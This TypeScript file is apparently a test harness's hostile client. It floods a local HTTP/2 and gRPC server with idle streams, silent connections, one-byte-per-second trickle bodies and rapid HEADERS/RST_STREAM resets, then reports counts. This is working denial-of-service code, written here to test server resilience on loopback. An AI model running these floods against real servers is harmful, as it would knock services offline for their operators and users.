// A hostile client, run as a process of its own (so its sockets and CPU are not the test's):
//   node --import tsx attacker.ts <attack> <port> [options as JSON]
// It writes raw bytes (HTTP/2 frames encoded here, HPACK literals without Huffman) and never
// honours what the server advertises. It prints JSON lines on stdout: {"event":"ready",…} once
// the attack is in place, and {"event":"done",…} with its counts when it ends (after `seconds`, or
// on SIGTERM). Attacks:
//   idle-streams  {connections, streams}  HEADERS without a body on each connection, reconnecting when cut
//   silent        {connections, preface}  connections that send the h2 preface (or nothing) and then wait
//   trickle       {connections}           HTTP/1.1 bodies and h2 DATA at one byte per second
//   rapid-reset   {connections, seconds}  HEADERS then RST_STREAM, as fast as the socket takes them
import net from "node:net";

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const TYPE = { DATA: 0, HEADERS: 1, RST_STREAM: 3, SETTINGS: 4, GOAWAY: 7 } as const;
const FLAG = { END_STREAM: 0x1, ACK: 0x1, END_HEADERS: 0x4 } as const;
const CANCEL = 8;

function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream & 0x7fffffff, 5);
  return Buffer.concat([head, payload]);
}

/** HPACK integer with an n-bit prefix. */
function hpackInt(value: number, prefixBits: number, firstByte = 0): number[] {
  const max = (1 << prefixBits) - 1;
  if (value < max) return [firstByte | value];
  const out = [firstByte | max];
  let rest = value - max;
  while (rest >= 128) {
    out.push((rest % 128) + 128);
    rest = Math.floor(rest / 128);
  }
  out.push(rest);
  return out;
}

/** A header block of literals without indexing (new names), no Huffman: what any HPACK decoder must take. */
function headerBlock(headers: [string, string][]): Buffer {
  const bytes: number[] = [];
  for (const [name, value] of headers) {
    bytes.push(0x00, ...hpackInt(name.length, 7), ...Buffer.from(name, "latin1"), ...hpackInt(value.length, 7), ...Buffer.from(value, "latin1"));
  }
  return Buffer.from(bytes);
}

const GRPC_CALL = headerBlock([
  [":method", "POST"],
  [":scheme", "http"],
  [":authority", "127.0.0.1"],
  [":path", "/grpc.health.v1.Health/Check"],
  ["content-type", "application/grpc"],
  ["te", "trailers"],
]);

/** An h2 connection speaking raw frames: counts what the server sends back, ACKs its SETTINGS. */
class RawH2 {
  readonly socket: net.Socket;
  resets = 0;
  goaway = false;
  closed = false;
  /** Called on each RST_STREAM the server sends. */
  onReset: () => void = () => undefined;
  private buffer = Buffer.alloc(0);

  constructor(port: number, onClose: () => void, localAddress?: string) {
    this.socket = net.connect({ port, host: "127.0.0.1", localAddress });
    this.socket.on("error", () => undefined);
    this.socket.on("close", () => {
      this.closed = true;
      onClose();
    });
    this.socket.on("data", (chunk: Buffer) => this.read(chunk));
    this.socket.write(Buffer.concat([PREFACE, frame(TYPE.SETTINGS, 0, 0)]));
  }

  /** Writes; resolves when the socket can take more (or is gone). */
  write(bytes: Buffer): Promise<void> {
    if (this.closed) return Promise.resolve();
    if (this.socket.write(bytes)) return Promise.resolve();
    return new Promise((resolve) => {
      const done = (): void => {
        this.socket.off("drain", done).off("close", done);
        resolve();
      };
      this.socket.once("drain", done).once("close", done);
      void stopped.then(done); // a server that stops reading must not keep the attacker from ending
    });
  }

  private read(chunk: Buffer): void {
    this.buffer = Buffer.concat([this.buffer, chunk]);
    while (this.buffer.length >= 9) {
      const length = this.buffer.readUIntBE(0, 3);
      if (this.buffer.length < 9 + length) return;
      const type = this.buffer[3];
      const flags = this.buffer[4] ?? 0;
      this.buffer = this.buffer.subarray(9 + length);
      if (type === TYPE.SETTINGS && (flags & FLAG.ACK) === 0) this.socket.write(frame(TYPE.SETTINGS, FLAG.ACK, 0));
      else if (type === TYPE.RST_STREAM) {
        this.resets++;
        this.onReset();
      }
      else if (type === TYPE.GOAWAY) this.goaway = true;
    }
  }
}

type Options = Record<string, number | boolean | undefined>;
const emit = (event: string, data: Record<string, unknown> = {}): void => {
  process.stdout.write(`${JSON.stringify({ event, ...data })}\n`);
};

let stopping = false;
let halt: () => void = () => undefined;
/** Resolves when the attack is to end: SIGTERM, or its own time is up. */
const stopped = new Promise<void>((resolve) => {
  halt = () => {
    stopping = true;
    resolve();
  };
  process.once("SIGTERM", halt);
});
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
/** Spreads connections over several loopback source addresses, so no one address runs out of ports. */
const source = (i: number) => `127.0.0.${2 + (i % 50)}`;

async function idleStreams(port: number, o: Options): Promise<Record<string, unknown>> {
  emit("started");
  const lanes = Number(o.connections ?? 10);
  const perLane = Number(o.streams ?? 9_000);
  let sent = 0;
  let resets = 0;
  let connections = 0;
  // Each lane opens `perLane` streams on one connection and holds it; when the server cuts it,
  // the lane connects again and opens as many again, until told to stop.
  const lane = async (n: number): Promise<void> => {
    while (!stopping) {
      let closed = false;
      const c = new RawH2(port, () => (closed = true), source(n));
      connections++;
      let left = perLane;
      let stream = 1;
      while (left > 0 && !closed && !stopping) {
        const batch: Buffer[] = [];
        for (let i = 0; i < 100 && left > 0; i++, left--, stream += 2) batch.push(frame(TYPE.HEADERS, FLAG.END_HEADERS, stream, GRPC_CALL));
        sent += batch.length;
        await c.write(Buffer.concat(batch));
      }
      await Promise.race([stopped, new Promise((r) => (c.closed ? r(undefined) : c.socket.once("close", r)))]);
      resets += c.resets;
      c.socket.destroy();
    }
  };
  const all = Promise.all(Array.from({ length: lanes }, (_, n) => lane(n)));
  // "ready" once every stream has been sent.
  const ready = (async () => {
    while (sent < lanes * perLane && !stopping) await sleep(50);
    emit("ready", { sent, connections });
  })();
  await Promise.race([all, stopped]);
  halt();
  await Promise.all([all, ready]);
  return { sent, resets, connections };
}

async function silent(port: number, o: Options): Promise<Record<string, unknown>> {
  emit("started");
  const total = Number(o.connections ?? 20_000);
  const sockets: net.Socket[] = [];
  let connected = 0;
  let closedByServer = 0;
  let failed = 0;
  for (let i = 0; i < total && !stopping; i += 500) {
    await Promise.all(
      Array.from({ length: Math.min(500, total - i) }, (_, j) =>
        new Promise<void>((resolve) => {
          const s = net.connect({ port, host: "127.0.0.1", localAddress: source(i + j) });
          sockets.push(s);
          s.once("connect", () => {
            connected++;
            if (o.preface !== false && (i + j) % 2 === 0) s.write(PREFACE);
            resolve();
          });
          s.once("error", () => {
            failed++;
            resolve();
          });
          s.once("close", () => {
            if (!stopping) closedByServer++;
          });
        }),
      ),
    );
  }
  emit("ready", { connected, failed, closedByServer });
  await stopped;
  for (const s of sockets) s.destroy();
  return { connected, failed, closedByServer };
}

async function trickle(port: number, o: Options): Promise<Record<string, unknown>> {
  emit("started");
  const total = Number(o.connections ?? 200);
  const started = performance.now();
  const cutAfterMs: number[] = [];
  const ticks: (() => void)[] = [];
  for (let i = 0; i < total; i++) {
    if (i % 2 === 0) {
      const s = net.connect({ port, host: "127.0.0.1", localAddress: source(i) });
      s.on("error", () => undefined);
      s.once("close", () => cutAfterMs.push(performance.now() - started));
      s.write("POST /grpc.health.v1.Health/Check HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n");
      ticks.push(() => s.writable && s.write("{"));
    } else {
      let cut = false;
      const cutNow = (): void => {
        if (!cut) cutAfterMs.push(performance.now() - started);
        cut = true;
      };
      const c = new RawH2(port, cutNow, source(i));
      c.onReset = cutNow; // the stream was reset: its body will never be read
      void c.write(frame(TYPE.HEADERS, FLAG.END_HEADERS, 1, GRPC_CALL));
      ticks.push(() => {
        if (!cut) void c.write(frame(TYPE.DATA, 0, 1, Buffer.from([0])));
      });
    }
  }
  emit("ready", { connections: total });
  const timer = setInterval(() => ticks.forEach((t) => t()), 1_000);
  const seconds = Number(o.seconds ?? 30);
  await Promise.race([stopped, sleep(seconds * 1_000), (async () => {
    while (cutAfterMs.length < total) await sleep(100);
  })()]);
  clearInterval(timer);
  return { connections: total, cut: cutAfterMs.length, lastCutMs: Math.round(Math.max(0, ...cutAfterMs)), firstCutMs: Math.round(Math.min(...cutAfterMs)) };
}

async function rapidReset(port: number, o: Options): Promise<Record<string, unknown>> {
  const lanes = Number(o.connections ?? 10);
  let sent = 0;
  let connections = 0;
  let goaways = 0;
  const lane = async (n: number): Promise<void> => {
    while (!stopping) {
      let closed = false;
      const c = new RawH2(port, () => (closed = true), source(n));
      connections++;
      let stream = 1;
      while (!closed && !stopping && stream < 2 ** 31 - 400) {
        const batch: Buffer[] = [];
        for (let i = 0; i < 100; i++, stream += 2) batch.push(frame(TYPE.HEADERS, FLAG.END_HEADERS, stream, GRPC_CALL), frame(TYPE.RST_STREAM, 0, stream, Buffer.from([0, 0, 0, CANCEL])));
        sent += 100;
        await c.write(Buffer.concat(batch));
      }
      if (c.goaway) goaways++;
      c.socket.destroy();
    }
  };
  emit("started");
  const all = Promise.all(Array.from({ length: lanes }, (_, n) => lane(n)));
  await Promise.race([stopped, sleep(Number(o.seconds ?? 60) * 1_000)]);
  halt();
  await all;
  return { sent, connections, goaways };
}

const [attack = "", portText = "0", json = "{}"] = process.argv.slice(2);
const port = Number(portText);
const options = JSON.parse(json) as Options;
const attacks: Record<string, (port: number, o: Options) => Promise<Record<string, unknown>>> = {
  "idle-streams": idleStreams,
  silent,
  trickle,
  "rapid-reset": rapidReset,
};
const run = attacks[attack];
if (!run) {
  process.stderr.write(`unknown attack ${attack}\n`);
  process.exit(2);
}
run(port, options).then(
  (counts) => {
    emit("done", counts);
    process.exit(0);
  },
  (error: unknown) => {
    process.stderr.write(`${String(error)}\n`);
    process.exit(1);
  },
);
